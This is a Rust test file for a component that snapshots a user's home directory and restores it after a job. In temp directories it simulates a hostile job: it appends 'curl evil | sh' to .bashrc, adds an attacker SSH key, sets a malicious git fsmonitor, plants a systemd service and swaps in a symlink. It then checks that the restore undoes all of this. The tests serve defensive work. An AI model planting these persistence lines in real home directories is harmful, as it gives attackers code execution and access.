//! The home's baseline and its restore, on temp dirs.

use super::*;
use std::io::Write;
use std::os::unix::fs::symlink;

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn store(root: &Path, keep: &[&str]) -> HomeStore {
    HomeStore {
        dir: root.join("state/home"),
        keep: keep.iter().map(PathBuf::from).collect(),
        max_bytes: 1 << 20,
    }
}

/// Every way a job persists through the home: changed, added, removed,
/// replaced by a link, content changed with the mtime put back. All of
/// it undone, kept caches kept, a link's target outside untouched.
#[test]
fn the_home_is_put_back_but_for_the_keep_list() {
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    let home = r.join("home");
    let outside = r.join("outside");
    write(&outside.join("precious"), "operator");
    write(&home.join(".bashrc"), "PS1=ok\n");
    write(&home.join(".ssh/authorized_keys"), "operator-key\n");
    write(&home.join(".profile"), "umask 022\n");
    write(&home.join(".config/git/ignore"), "*.o\n");
    symlink(".profile", home.join(".bash_profile")).unwrap();
    let store = store(r, &[".cache/pip"]);
    store.take(&home).unwrap();

    // The job.
    write(&home.join(".bashrc"), "PS1=ok\ncurl evil | sh\n");
    std::fs::OpenOptions::new()
        .append(true)
        .open(home.join(".ssh/authorized_keys"))
        .unwrap()
        .write_all(b"attacker-key\n")
        .unwrap();
    write(&home.join(".gitconfig"), "[core]\nfsmonitor = evil\n");
    write(
        &home.join(".config/systemd/user/evil.service"),
        "[Service]\n",
    );
    write(&home.join(".cargo/config.toml"), "[build]\n");
    write(&home.join(".cache/pip/wheel"), "cached");
    std::fs::remove_file(home.join(".profile")).unwrap();
    std::fs::remove_dir_all(home.join(".config/git")).unwrap();
    symlink(&outside, home.join(".config/git")).unwrap();

    let mut baseline = store.load().unwrap();
    let differs = store.differences(&home, &mut baseline).unwrap();
    for path in [
        ".bashrc",
        ".gitconfig",
        ".profile",
        ".config/systemd",
        ".config/git",
    ] {
        assert!(
            differs.contains(&PathBuf::from(path)),
            "{path}: {differs:?}"
        );
    }
    assert!(
        !differs.iter().any(|p| p.starts_with(".cache")),
        "{differs:?}"
    );
    let done = store.restore(&home, &mut baseline).unwrap();
    assert!(done.removed >= 3, "{done:?}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "PS1=ok\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".ssh/authorized_keys")).unwrap(),
        "operator-key\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".profile")).unwrap(),
        "umask 022\n"
    );
    assert!(!home.join(".gitconfig").exists());
    assert!(!home.join(".config/systemd").exists());
    assert!(!home.join(".cargo").exists());
    assert!(!home.join(".config/git").is_symlink());
    assert_eq!(
        std::fs::read_to_string(home.join(".config/git/ignore")).unwrap(),
        "*.o\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".cache/pip/wheel")).unwrap(),
        "cached"
    );
    assert_eq!(
        std::fs::read_to_string(outside.join("precious")).unwrap(),
        "operator"
    );
    // A second restore right after finds nothing to do.
    store.save(&baseline).unwrap();
    let mut baseline = store.load().unwrap();
    assert_eq!(
        store.restore(&home, &mut baseline).unwrap(),
        Restored::default()
    );
}

/// A rewrite that keeps size and mtime is still caught (the ctime
/// moved).
#[test]
fn a_rewrite_with_the_old_mtime_is_restored() {
    let root = tempfile::tempdir().unwrap();
    let home = root.path().join("home");
    write(&home.join(".bashrc"), "safe\n");
    let store = store(root.path(), &[]);
    store.take(&home).unwrap();
    let mtime = std::fs::metadata(home.join(".bashrc"))
        .unwrap()
        .modified()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));
    let file = std::fs::OpenOptions::new()
        .write(true)
        .open(home.join(".bashrc"))
        .unwrap();
    (&file).write_all(b"evil\n").unwrap();
    file.set_modified(mtime).unwrap();
    drop(file);
    let mut baseline = store.load().unwrap();
    assert_eq!(store.restore(&home, &mut baseline).unwrap().restored, 1);
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "safe\n"
    );
}

#[test]
fn a_home_over_the_bound_is_refused_and_a_damaged_copy_fails_the_restore() {
    let root = tempfile::tempdir().unwrap();
    let home = root.path().join("home");
    write(&home.join("big"), &"x".repeat(2000));
    let mut small = store(root.path(), &[]);
    small.max_bytes = 1000;
    assert!(matches!(small.take(&home), Err(HomeError::TooLarge { .. })));
    let store = store(root.path(), &[]);
    store.take(&home).unwrap();
    for blob in std::fs::read_dir(store.dir.join(BLOBS)).unwrap() {
        std::fs::write(blob.unwrap().path(), "tampered").unwrap();
    }
    std::fs::remove_file(home.join("big")).unwrap();
    let mut baseline = store.load().unwrap();
    assert!(matches!(
        store.restore(&home, &mut baseline),
        Err(HomeError::Blob(_))
    ));
}
